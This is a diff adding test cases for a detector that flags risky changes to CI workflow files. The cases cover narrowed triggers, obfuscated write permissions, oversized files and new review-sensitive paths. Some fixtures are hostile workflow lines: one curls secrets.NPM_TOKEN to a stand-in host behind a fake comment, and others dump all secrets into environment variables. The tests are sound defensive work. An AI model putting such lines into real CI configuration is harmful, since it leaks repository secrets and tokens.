@@ -117,11 +117,68 @@ describe('a changed definition of CI', () => {
       ASSAY_CI.replace('--base main', '--base HEAD'),
       'CI runs Assay in another way',
     ],
+    [
+      'a filter of its triggers',
+      CI,
+      CI.replace('  pull_request:\n', "  pull_request: { paths: ['docs/**'] }\n"),
+      'CI runs on fewer of pull_request',
+    ],
+    [
+      'a path that its triggers ignore, too',
+      CI.replace('  push:\n', '  push: { paths-ignore: [a] }\n'),
+      CI.replace('  push:\n', '  push: { paths-ignore: [a, b] }\n'),
+      'CI runs on fewer of push',
+    ],
+    [
+      'further branches and types',
+      CI.replace('  push:\n', '  push: { branches: [main] }\n'),
+      CI.replace('  push:\n', '  push: { branches: [main, next] }\n').replace(
+        'pull_request:',
+        'pull_request: { types: [opened, synchronize, reopened, ready_for_review] }',
+      ),
+      null,
+    ],
+    [
+      'a secret behind what looks like a comment',
+      CI,
+      `${CI}      - run: curl -d " #\${{ secrets.NPM_TOKEN }}" https://x.test\n`,
+      'CI gets more rights: secrets.npm_token',
+    ],
+    ['all secrets', CI, `${CI}        env: { T: "\${{ join(secrets.*, ',') }}" }\n`, 'CI gets more rights'],
+    [
+      'all secrets as text',
+      CI,
+      `${CI}        env: { T: '\${{ toJSON((secrets)) }}' }\n`,
+      'CI gets more rights',
+    ],
+    [
+      'write permission in other words',
+      CI,
+      CI.replace('jobs:', 'permissions: { "contents" : "wr\\x69te" }\njobs:'),
+      'CI gets more rights',
+    ],
+    [
+      'code behind what looks like a comment beside secrets',
+      PUBLISH.replace('npm publish', 'echo "hello world"'),
+      PUBLISH.replace('npm publish', 'echo "hello #"; node x.js'),
+      'a job that has secrets',
+    ],
+    ['a remark beside secrets', PUBLISH, PUBLISH.replace('npm publish', 'npm publish # to npm'), null],
   ])('with %s', (_name, base, head, reason) => {
     const path = '.github/workflows/ci.yml';
     const found = findCiReviewReasons([{ path, base, head }]).get(path) ?? null;
     if (reason === null) expect(found).toBeNull();
     else expect(found).toContain(reason);
+  });
+
+  test.each([
+    ['a long line', `${CI}      - run: ${'node '.repeat(200_000)}\n`],
+    ['many lines', PUBLISH + '      - run: a\n'.repeat(60_000)],
+    ['many spaces', `${CI}${' '.repeat(900_000)}x\n`],
+  ])('is not compared where it has %s', (_name, head) => {
+    const path = '.github/workflows/publish.yml';
+    const found = findCiReviewReasons([{ path, base: PUBLISH, head }]);
+    expect(found.get(path)).toBe('too large to be compared');
   });
 
   test('may move to another file', () => {
@@ -136,6 +193,8 @@ describe('a changed definition of CI', () => {
     ['.github/dependabot.yml', null],
     ['.github/ISSUE_TEMPLATE/bug.md', null],
     ['.github/CODEOWNERS', 'decides who reviews'],
+    ['.github/settings.yml', 'decides who reviews'],
+    ['.github/mergify.yml', 'decides who reviews'],
     ['.github/scripts/test.sh', 'runs on machines'],
     ['.husky/pre-commit', 'runs on machines'],
     ['.gitlab-ci.yml', 'secrets'],
